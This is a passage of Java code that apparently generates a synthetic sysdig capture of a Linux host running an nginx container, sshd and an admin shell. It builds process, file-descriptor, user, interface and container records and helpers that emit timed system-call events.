                "/usr/sbin/sshd", List.of(), "/", ADMIN, ADMIN, PID_SSHD_SESSION, HOST_ENV,
                hostCgroups("/user.slice/user-1000.slice/session-42.scope"), ADMIN, 0, 17_192, 7_652));
        p.add(new Proc(PID_BASH, PID_SSHD_SESSION, PID_BASH, PID_BASH, "bash", "-bash", "/usr/bin/bash", List.of(),
                "/home/admin", ADMIN, ADMIN, PID_BASH, ADMIN_ENV, hostCgroups("/user.slice/user-1000.slice/session-42.scope"),
                ADMIN, PTS_0, 8_956, 5_376));
        return p;
    }

    private static Proc service(long pid, String comm, String exe, List<String> args, String unit, long vmSize,
                                long vmRss) {
        return new Proc(pid, PID_SYSTEMD, pid, pid, comm, exe, exe, args, "/", ROOT, ROOT, pid, HOST_ENV,
                hostCgroups("/system.slice/" + unit), NO_LOGIN, 0, vmSize, vmRss);
    }

    private static Proc worker(long pid, long vpid) {
        return new Proc(pid, PID_NGINX_MASTER, PID_NGINX_MASTER, VPID_NGINX_MASTER, "nginx", NGINX_WORKER_EXE,
                "/usr/sbin/nginx", List.of(), "/", WWW_DATA, WWW_DATA, vpid, CONTAINER_ENV, containerCgroups(),
                NO_LOGIN, 0, 12_020, 3_416);
    }

    private static List<String> hostCgroups(String path) {
        return List.of("cpuset=/", "cpu=" + path, "cpuacct=" + path, "memory=" + path, "pids=" + path);
    }

    private static List<String> containerCgroups() {
        String path = "/docker/" + CONTAINER_FULL_ID;
        return List.of("cpuset=" + path, "cpu=" + path, "cpuacct=" + path, "memory=" + path, "pids=" + path);
    }

    /**
     * A fork: the parent's clone enter and exit, then the child's clone exit. The child (host id
     * {@code tid}, {@code vtid} in its PID namespace) starts as the same program; returns it.
     */
    private static Task fork(Task parent, long tid, long vtid) {
        Timeline t = parent.timeline;
        Proc p = t.process(parent.tid);
        Proc child = new Proc(tid, p.tid, p.sid, p.vpgid, p.comm, p.exe, p.exepath, p.args, p.cwd, p.uid, p.gid, vtid,
                p.env, p.cgroups, p.loginuid, p.tty, p.vmSizeKb, p.vmRssKb / 4);
        t.update(child);
        long flags = FORK_FLAGS | (child.inContainer() ? CLONE_CHILD_IN_PIDNS : 0);
        parent.event(CLONE_20_E);
        parent.pause(t.between(60 * US, 140 * US));
        // in a PID namespace, the parent sees the child's id in that namespace
        parent.event(CLONE_20_X, child.inContainer() ? vtid : tid, p.exe, strings(p.args), p.tid, p.tid, p.ptid, p.cwd,
                FDLIMIT, 0L, 0L, (int) p.vmSizeKb, (int) p.vmRssKb, 0, p.comm, strings(p.cgroups), (int) flags,
                (int) p.uid, (int) p.gid, p.vtid, p.vtid);
        Task c = t.task(tid, parent.now + 9 * US);
        c.event(CLONE_20_X, 0L, p.exe, strings(p.args), tid, tid, p.tid, p.cwd, FDLIMIT, 0L, 0L, (int) p.vmSizeKb,
                (int) child.vmRssKb, 0, p.comm, strings(p.cgroups), (int) flags, (int) p.uid, (int) p.gid, vtid, vtid);
        parent.pause(t.between(20 * US, 60 * US));
        c.pause(t.between(30 * US, 90 * US));
        return c;
    }

    /** A fork outside any PID namespace. */
    private static Task fork(Task parent, long tid) {
        return fork(parent, tid, tid);
    }

    /** An execve that succeeds: the process becomes the program {@code filename} (its comm: the file name). */
    private static void exec(Task task, String filename, String exe, List<String> args, List<String> env) {
        Timeline t = task.timeline;
        String comm = filename.substring(filename.lastIndexOf('/') + 1);
        Proc p = t.process(task.tid).exec(comm, exe, filename, args, env);
        t.update(p);
        task.event(EXECVE_19_E, filename);
        task.pause(t.between(250 * US, 600 * US));
        task.event(EXECVE_19_X, 0L, exe, strings(args), p.tid, p.tid, p.ptid, p.cwd, FDLIMIT, 0L, 98L + p.tid % 60,
                (int) p.vmSizeKb, (int) p.vmRssKb, 0, comm, strings(p.cgroups), strings(env), (int) p.tty, p.vpgid,
                (int) p.loginuid, 0);
        task.pause(t.between(200 * US, 500 * US));
    }

    // ================================================================ machine state at the start

    private static List<FdRecord> fds(long tid) {
        List<FdRecord> f = new ArrayList<>();
        if (tid == PID_NGINX_MASTER || tid == PID_NGINX_WORKER_1 || tid == PID_NGINX_WORKER_2) {
            f.add(file(tid, 0, "/dev/null", O_RDWR, 0x3));
            f.add(fifo(tid, 1, 48_121));
            f.add(fifo(tid, 2, 48_122));
            f.add(file(tid, NGINX_ERROR_LOG, "/var/log/nginx/error.log", O_WRONLY | O_APPEND, DEV_OVERLAY));
            f.add(file(tid, NGINX_ACCESS_LOG, "/var/log/nginx/access.log", O_WRONLY | O_APPEND, DEV_OVERLAY));
            f.add(new FdRecord(tid, NGINX_LISTEN, 48_210, FdRecord.IPV4_SERVSOCK, "", 0, 0, ip(0, 0, 0, 0), null,
                    HTTP_PORT, 0, 2, 0, 0));
        } else if (tid == PID_SSHD) {
            f.add(file(tid, 0, "/dev/null", O_RDWR, 0x3));
            f.add(new FdRecord(tid, SSH_LISTEN, 21_734, FdRecord.IPV4_SERVSOCK, "", 0, 0, ip(0, 0, 0, 0), null,
                    SSH_PORT, 0, 2, 0, 0));
        } else if (tid == PID_SSHD_SESSION) {
            f.add(file(tid, 0, "/dev/null", O_RDWR, 0x3));
            f.add(new FdRecord(tid, SSH_SOCKET, 3_311_905, FdRecord.IPV4_SOCK, "", 0, 0, HOST_IP, ADMIN_IP, SSH_PORT,
                    53122, 2, 0, 0));
            f.add(file(tid, PTMX, "/dev/ptmx", O_RDWR, 0x5));
        } else if (tid == PID_BASH) {
            for (long fd : new long[] {0, 1, 2, 255}) {
                f.add(file(tid, fd, "/dev/pts/0", O_RDWR, 0x18800));
            }
        } else if (tid == PID_CONTAINERD || tid == PID_DOCKERD || tid == PID_CRON) {
            f.add(file(tid, 0, "/dev/null", O_RDWR, 0x3));
        }
        return f;
    }

    private static FdRecord file(long tid, long fd, String name, long flags, long dev) {
        return new FdRecord(tid, fd, 1000 + fd, FdRecord.FILE_V2, name, flags, dev, null, null, 0, 0, 0, 0, 0);
    }

    private static FdRecord fifo(long tid, long fd, long ino) {
        return new FdRecord(tid, fd, ino, FdRecord.FIFO, "pipe:[" + ino + "]", 0, 0, null, null, 0, 0, 0, 0, 0);
    }

    private static List<InterfaceRecord> interfaces() {
        return List.of(
                new InterfaceRecord(false, "lo", ip(127, 0, 0, 1), ip(255, 0, 0, 0), ip(127, 255, 255, 255), 0),
                new InterfaceRecord(false, "eth0", HOST_IP, ip(255, 255, 255, 0), ip(10, 0, 1, 255), 10_000),
                new InterfaceRecord(false, "docker0", DOCKER0_IP, ip(255, 255, 0, 0), ip(172, 17, 255, 255), 10_000));
    }

    private static List<UserRecord> users() {
        return List.of(
                new UserRecord(false, ROOT, ROOT, "root", "/root", "/bin/bash"),
                new UserRecord(false, 1, 1, "daemon", "/usr/sbin", "/usr/sbin/nologin"),
                new UserRecord(false, WWW_DATA, WWW_DATA, "www-data", "/var/www", "/usr/sbin/nologin"),
                new UserRecord(false, 105, 65534, "sshd", "/run/sshd", "/usr/sbin/nologin"),
                new UserRecord(false, ADMIN, ADMIN, "admin", "/home/admin", "/bin/bash"),
                new UserRecord(false, 65534, 65534, "nobody", "/nonexistent", "/usr/sbin/nologin"),
                new UserRecord(true, -1, ROOT, "root", "", ""),
                new UserRecord(true, -1, WWW_DATA, "www-data", "", ""),
                new UserRecord(true, -1, 42, "shadow", "", ""),
                new UserRecord(true, -1, 999, "docker", "", ""),
                new UserRecord(true, -1, ADMIN, "admin", "", ""),
                new UserRecord(true, -1, 65534, "nogroup", "", ""));
    }

    private static String containerJson() {
        return "{\"container\":{\"id\":\"" + CONTAINER_ID + "\",\"full_id\":\"" + CONTAINER_FULL_ID + "\",\"type\":0,"
                + "\"name\":\"" + CONTAINER_NAME + "\",\"image\":\"" + IMAGE + "\",\"imageid\":"
                + "\"7383c266ef252ad70806f3072ee8e63d2a16d1e6bafa6146a2da867fc7c41759\",\"imagerepo\":\"nginx\","
                + "\"imagetag\":\"1.25\",\"imagedigest\":"
                + "\"sha256:c26ae7472d624ba1fafd296e73cecc4f93f853088e6a9c13c0d52f6ca5865107\","
                + "\"privileged\":false,\"lookup_state\":1,\"created_time\":1710201318,\"ip\":\"172.17.0.2\","
                + "\"port_mappings\":[{\"HostIp\":0,\"HostPort\":80,\"ContainerPort\":80}],"
                + "\"labels\":{\"com.docker.compose.project\":\"shop\",\"com.docker.compose.service\":\"web\","
                + "\"com.docker.compose.container-number\":\"1\","
                + "\"maintainer\":\"NGINX Docker Maintainers <docker-maint@nginx.com>\"},"
                + "\"Mounts\":[{\"Source\":\"/srv/shop/html\",\"Destination\":\"/usr/share/nginx/html\",\"Mode\":\"ro\","
                + "\"RW\":false,\"Propagation\":\"rprivate\"}],"
                + "\"env\":[\"NGINX_VERSION=1.25.4\",\"NJS_VERSION=0.8.3\",\"PKG_RELEASE=1~bookworm\"],"
                + "\"memory_limit\":536870912,\"cpu_shares\":1024,\"cpu_quota\":100000,\"cpu_period\":100000}}\n";
    }

    // ================================================================ small helpers

    private static byte[] ip(int a, int b, int c, int d) {
        return new byte[] {(byte) a, (byte) b, (byte) c, (byte) d};
    }

    private static String text(byte[] ip) {
        return (ip[0] & 0xff) + "." + (ip[1] & 0xff) + "." + (ip[2] & 0xff) + "." + (ip[3] & 0xff);
    }

    private static byte[] strings(List<String> items) {
        return ScapWriter.strings(items);
    }

    private static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    /** One event waiting to be written in time order. */
    private record Event(long ts, long seq, int cpu, long tid, int type, Object[] params) {
    }

    /** The events of all scenes, written in time order at the end; jitter from a fixed seed. */
    private static final class Timeline {
        private final List<Event> events = new ArrayList<>();
        private final Random random = new Random(20240314);
        /** The processes as they stand while the scenes are written, by tid. */
        private final Map<Long, Proc> processes = new HashMap<>();
        /** Connections nginx has accepted, for its error log. */
        private int connections = 40;

        Timeline(List<Proc> initial) {
            for (Proc p : initial) {
                processes.put(p.tid, p);
            }
        }

        Proc process(long tid) {
            Proc p = processes.get(tid);
            if (p == null) {
                throw new IllegalStateException("no process " + tid);
            }
            return p;
        }

        void update(Proc p) {
            processes.put(p.tid, p);
        }

        Task task(long tid, long start) {
            return new Task(this, tid, start);
        }

        void add(long ts, long tid, int type, Object... params) {
            events.add(new Event(T0 + ts, events.size(), (int) (tid % 4), tid, type, params));
        }

        /** A duration between the two, in ns. */
        long between(long min, long max) {
            return min + (long) (random.nextDouble() * (max - min));
        }

        /** Bytes that look like encrypted traffic. */
        byte[] noise(int n) {
            byte[] b = new byte[n];
            random.nextBytes(b);
            return b;
        }

        void write(ScapWriter w) throws IOException {
            events.sort(Comparator.comparingLong(Event::ts).thenComparingLong(Event::seq));
            for (Event e : events) {
                w.event(e.cpu, e.ts, e.tid, e.type, e.params);
            }
        }
    }

    /** The system calls of one thread, from a point in time on: each call an enter and an exit event. */
    private static final class Task {
        final Timeline timeline;
        final long tid;
        /** Time after T0 of the thread's next event. */
        long now;

        Task(Timeline timeline, long tid, long start) {
            this.timeline = timeline;
            this.tid = tid;
            this.now = start;
        }

        Task at(long ts) {
            now = ts;
            return this;
        }

        void pause(long ns) {
            now += ns;
        }

        void event(int type, Object... params) {
            timeline.add(now, tid, type, params);
            now += 1;
        }

        /** A call that takes a few microseconds, then a short gap before the next. */
        private void call(int enter, Object[] in, int exit, Object... out) {
            call(timeline.between(2 * US, 18 * US), enter, in, exit, out);
        }

        /** A call that takes {@code ns}. */
        private void call(long ns, int enter, Object[] in, int exit, Object... out) {
            timeline.add(now, tid, enter, in);
            now += ns;
            timeline.add(now, tid, exit, out);
            now += timeline.between(3 * US, 40 * US);
        }

        void epollWait(long ns, long ready) {
            call(ns, EPOLLWAIT_E, new Object[] {512L}, EPOLLWAIT_X, ready);
        }

        void nanosleep(long ns) {
            call(ns, NANOSLEEP_E, new Object[] {ns}, NANOSLEEP_X, 0L);
        }

        /** nginx's accept4 on its listening socket; {@code fd} is the new connection. */
        void accept4(long fd, byte[] tuple) {
            call(ACCEPT4_5_E, new Object[] {(int) SOCK_NONBLOCK}, ACCEPT4_5_X, fd, tuple, 0, 0, 511);
        }

        /** sshd's accept on its listening socket. */
        void accept(long fd, byte[] tuple) {
            call(ACCEPT_5_E, new Object[] {}, ACCEPT_5_X, fd, tuple, 0, 0, 128);
        }

        void recvfrom(long fd, long size, String data, byte[] tuple) {
            recvfrom(fd, size, data, tuple, timeline.between(4 * US, 20 * US));
        }

        void recvfrom(long fd, long size, String data, byte[] tuple, long ns) {
            byte[] b = bytes(data);
            call(ns, RECVFROM_E, new Object[] {fd, size}, RECVFROM_X, (long) b.length, b, tuple);
        }

        void read(long fd, long size, String data) {
            read(fd, size, bytes(data));
        }

        void read(long fd, long size, byte[] data) {
            call(READ_E, new Object[] {fd, size}, READ_X, (long) data.length, data);
        }

        void write(long fd, String data) {
            write(fd, bytes(data));
        }

        void write(long fd, byte[] data) {
            call(WRITE_E, new Object[] {fd, (long) data.length}, WRITE_X, (long) data.length, data);
        }

        void writev(long fd, String data) {
            byte[] b = bytes(data);
            call(WRITEV_E, new Object[] {fd, (long) b.length}, WRITEV_X, (long) b.length, b);
        }

        void sendfile(long outFd, long inFd, long size) {
            call(SENDFILE_E, new Object[] {outFd, inFd, 0L, size}, SENDFILE_X, size, size);
        }

        /** openat relative to the cwd; {@code fd} is the result (negative: an errno). */
        void openat(String path, long flags, long fd, long dev) {
            int mode = (flags & O_CREAT) != 0 ? 0666 : 0;
            call(OPENAT_2_E, new Object[] {AT_FDCWD, path, (int) flags, mode}, OPENAT_2_X, fd, AT_FDCWD, path,
                    (int) flags, mode, (int) dev);
        }

        void close(long fd) {
            call(CLOSE_E, new Object[] {fd}, CLOSE_X, 0L);
        }

        void pipe(long readFd, long writeFd, long ino) {
            call(PIPE_E, new Object[] {}, PIPE_X, 0L, readFd, writeFd, ino);
        }

        /** dup2 (sysdig 0.29.3 records dup, dup2 and dup3 as dup, with the new descriptor as result). */
        void dup(long oldFd, long newFd) {
            call(DUP_E, new Object[] {oldFd}, DUP_X, newFd);
        }

        void socket(long fd) {
            call(SOCKET_E, new Object[] {(int) AF_INET, (int) SOCK_STREAM, (int) IPPROTO_TCP}, SOCKET_X, fd);
        }

        void connect(long fd, byte[] ip, int port, byte[] tuple, long ns) {
            call(ns, CONNECT_E, new Object[] {fd, ScapWriter.sockaddr(ip, port)}, CONNECT_X, 0L, tuple);
        }

        void exit(long code) {
            event(PROCEXIT_1_E, code << 8, code, 0, 0);
        }
    }
}
